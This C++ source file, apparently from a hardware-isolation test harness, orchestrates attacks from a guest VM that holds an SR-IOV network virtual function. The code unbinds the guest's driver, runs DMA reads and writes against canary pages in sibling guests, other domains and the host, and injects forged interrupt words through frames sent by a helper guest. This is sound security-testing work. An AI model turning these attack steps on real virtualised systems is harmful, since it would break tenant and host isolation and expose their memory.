#include "trial/stage.h"

#include <fmt/format.h>

#include <algorithm>
#include <charconv>
#include <thread>

#include "spec/ixgbevf.h"
#include "spec/ntb.h"

namespace ladon::trial {
namespace {

using machine::Machine;

constexpr Duration kCommand = std::chrono::seconds(60);
constexpr unsigned kFillLength = 1024 + 4, kFillEveryMs = 5;
// INIT, NMI and SMI as delivery modes (Intel SDM 3A, 11.11), an exception, a system call's vector.
constexpr std::array<std::uint32_t, 5> kForged = {0x0500, 0x0400, 0x0200, 0x0011, 0x0080};
// How long vfpoke waits for a frame to come, and for one to go.
constexpr unsigned kWriteMs = 150, kReadMs = 60;

std::string listed(std::span<const std::uint64_t> addresses) {
  std::string text;
  for (const std::uint64_t address : addresses) text += fmt::format(" {:#x}", address);
  return text;
}

}  // namespace

std::uint64_t Answer::number(const std::string& key) const {
  const auto found = values.find(key);
  if (found == values.end()) return 0;
  const bool hexadecimal = found->second.starts_with("0x");
  const std::string_view digits = std::string_view(found->second).substr(hexadecimal ? 2 : 0);
  std::uint64_t value = 0;
  std::from_chars(digits.data(), digits.data() + digits.size(), value, hexadecimal ? 16 : 10);
  return value;
}

namespace {

Answer answer_of(const std::expected<lab::CommandResult, std::string>& said) {
  Answer answer{.done = said && said->status == 0, .values = {}, .text = said ? said->text() : said.error()};
  if (!said) return answer;
  for (const std::string& line : said->lines)
    if (const auto equals = line.find('='); equals != std::string::npos)
      answer.values[line.substr(0, equals)] = line.substr(equals + 1);
  return answer;
}

}  // namespace

Answer run(RunningGuest& guest, const std::string& command) {
  return answer_of(guest.shell.run(command, kCommand));
}

bool comes_true(RunningGuest& guest, const std::string& condition, Duration patience) {
  const auto end = std::chrono::steady_clock::now() + patience;
  while (!run(guest, condition).done) {
    if (std::chrono::steady_clock::now() > end) return false;
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
  return true;
}

bool bring_up(RunningGuest& guest) {
  const auto& spec = guest.spec;
  (void)run(guest,
            fmt::format("echo 1 >/proc/sys/net/ipv6/conf/eth0/disable_ipv6; ip link set eth0 mtu {} up && "
                        "ip address add {} broadcast + dev eth0",
                        spec.mtu, spec.address));
  return comes_true(guest, "[ \"$(cat /sys/class/net/eth0/operstate)\" = up ]", std::chrono::seconds(20));
}

Parts cast(std::vector<RunningGuest>& guests, RunningGuest& attacker,
           const std::vector<const RunningGuest*>& shut) {
  Parts parts{.attacker = &attacker};
  const auto domain = [](const RunningGuest& guest) { return guest.place->placed.domain; };
  for (RunningGuest& guest : guests) {
    if (&guest == &attacker) continue;
    const bool same_nic = guest.place->placed.guest->vf->nic == attacker.place->placed.guest->vf->nic;
    if (domain(guest) == domain(attacker)) {
      if (parts.sibling == nullptr) parts.sibling = &guest;
    } else if (domain(guest) != pcie::kManagementDomain &&
               (parts.stranger == nullptr || domain(*parts.stranger) < domain(attacker))) {
      parts.stranger = &guest;
    }
    // Not the sibling, whose address and registers are what attackers are after.
    if (same_nic && std::ranges::find(shut, &guest) == shut.end() &&
        (parts.helper == nullptr || parts.helper == parts.sibling))
      parts.helper = &guest;
  }
  return parts;
}

std::expected<Stage, std::string> Stage::set(machine::Runner& runner, Witness& witness, ManagementLog& log,
                                             const Parts& parts) {
  Stage stage(runner, witness, log, parts);
  if (parts.helper == nullptr)
    return std::unexpected(parts.attacker->name() + ": no other guest has a VF of its NIC");
  for (RunningGuest* victim : {parts.sibling, parts.stranger})
    if (victim != nullptr)
      if (auto planted = stage.plant(*victim); !planted) return std::unexpected(planted.error());
  const Answer facts = run(*parts.attacker, "vf-report");
  const auto function = facts.values.find("vf");
  if (function == facts.values.end() || function->second.empty())
    return std::unexpected(parts.attacker->name() + ": has no VF: " + facts.text);
  stage.function_ = function->second;
  if (const Answer off =
          run(*parts.attacker, "echo " + stage.function_ + " >/sys/bus/pci/drivers/ixgbevf/unbind");
      !off.done)
    return std::unexpected(parts.attacker->name() + ": the driver does not let go: " + off.text);
  (void)run(*parts.helper,
            fmt::format("frames eth0 {} {:#x} {} 1000000 {} {} >/dev/null 2>&1 & echo $! >/tmp/frames.pid",
                        to_string(stage.mac_of(*parts.attacker)), kFill, kFillLength, kFillEveryMs,
                        stage.fill_words()));
  return stage;
}

// Each frame ends in one of these: made-up interrupts, and the vectors that others have.
std::string Stage::fill_words() const {
  std::string words;
  for (const std::uint32_t word : kForged) words += fmt::format("{:#x} ", word);
  for (const RunningGuest* victim : {parts.sibling, parts.stranger})
    if (victim != nullptr)
      for (const std::uint32_t vector : vectors_of(*victim)) words += fmt::format("{:#x} ", vector);
  return words;
}

std::expected<void, std::string> Stage::plant(RunningGuest& guest) {
  const auto secret = secret_of(++secrets_);
  std::string text;
  for (const std::byte byte : secret) text += fmt::format("{:02x}", static_cast<unsigned>(byte));
  (void)run(guest, fmt::format("vfpoke canary {} >/tmp/canary 2>&1 &", text));
  (void)comes_true(guest, "grep -q address= /tmp/canary", std::chrono::seconds(10));
  const Answer said = run(guest, "cat /tmp/canary");
  const auto at = look([&](Machine&) { return place_of(*guest.place, Gpa(said.number("address"))); });
  if (said.number("address") == 0 || !at)
    return std::unexpected(guest.name() + ": no page to be attacked: " + said.text);
  const Target target{.domain = guest.place->placed.domain, .at = *at, .secret = secret};
  // What the guest has written must be what its host sees there, or else the wrong page would be watched.
  if (!intact(target)) return std::unexpected(guest.name() + ": its page is not where its host has put it");
  guest_pages_.emplace(&guest, target);
  return {};
}

Target& Stage::host_page(pcie::Domain domain, std::size_t index) {
  auto found = host_pages_.find({domain, index});
  if (found == host_pages_.end()) {
    const auto placed = look([&](Machine& machine) { return place_target(machine, domain); });
    if (!placed) throw std::runtime_error(placed.error());
    found = host_pages_.emplace(std::pair{domain, index}, *placed).first;
  }
  look([&](Machine& machine) { fill(machine, found->second, ++secrets_); });
  return found->second;
}

Target& Stage::page_of(RunningGuest& guest) {
  Target& target = guest_pages_.at(&guest);
  look([&](Machine& machine) { fill(machine, target, ++secrets_); });
  return target;
}

bool Stage::intact(const Target& target) {
  return look([&](Machine& machine) { return untouched(machine, target); });
}

Answer Stage::poke(const std::string& arguments) {
  begin_poke(arguments);
  return end_poke();
}

void Stage::begin_poke(const std::string& arguments) {
  (void)parts.attacker->shell.start(fmt::format("vfpoke -d {} {}", function_, arguments));
}

Answer Stage::end_poke() {
  Answer answer = answer_of(parts.attacker->shell.finish(kCommand));
  const auto alive = answer.values.find("alive");
  if (alive != answer.values.end()) alive_ = alive->second == "1";
  return answer;
}

bool Stage::ready() {
  alive_ = true;
  return poke("reset").done && alive_;
}

Answer Stage::write_by_dma(std::span<const std::uint64_t> addresses, unsigned rounds) {
  for (const std::uint64_t address : addresses) remember(address);
  return poke(fmt::format("-r -w {} -n {} attack rx-tail{}", kWriteMs, rounds, listed(addresses)));
}

Answer Stage::write_by_dma(std::uint64_t address, unsigned rounds) {
  return write_by_dma({&address, 1}, rounds);
}

std::vector<Frame> Stage::read_by_dma(std::span<const std::uint64_t> addresses, std::uint32_t bytes) {
  for (const std::uint64_t address : addresses) remember(address);
  (void)poke(fmt::format("-r -w {} -l {} attack tx-read{}", kReadMs, bytes, listed(addresses)));
  std::vector<Frame> loot;
  for (const SeenFrame& frame : witness.frames())
    if (frame.type() == kLoot) loot.emplace_back(frame.bytes.begin() + 14, frame.bytes.end());
  return loot;
}

std::vector<Frame> Stage::read_by_dma(std::uint64_t address, std::uint32_t bytes) {
  return read_by_dma({&address, 1}, bytes);
}

std::uint64_t Stage::in_window(pcie::Domain host, BusAddr at) {
  const auto base =
      look([&](Machine& machine) { return bar_address(machine, ntb_function(host), spec::ntb::kDmaBar); });
  return base.value_or(BusAddr(0)).bits() + at.bits();
}

std::vector<std::uint32_t> Stage::vectors_of(const RunningGuest& guest) const {
  std::vector<std::uint32_t> all;
  for (std::uint16_t v = 0; v < spec::ixgbevf::kVectors; ++v)
    all.push_back(guest.place->slot->vf_slot().host_vector(v));
  return all;
}

bool Stage::strike() {
  (void)run(*parts.helper, "kill $(cat /tmp/frames.pid)");
  const bool bound = run(*parts.attacker, "echo " + function_ + " >/sys/bus/pci/drivers/ixgbevf/bind").done;
  return bound && bring_up(*parts.attacker);
}

}  // namespace ladon::trial
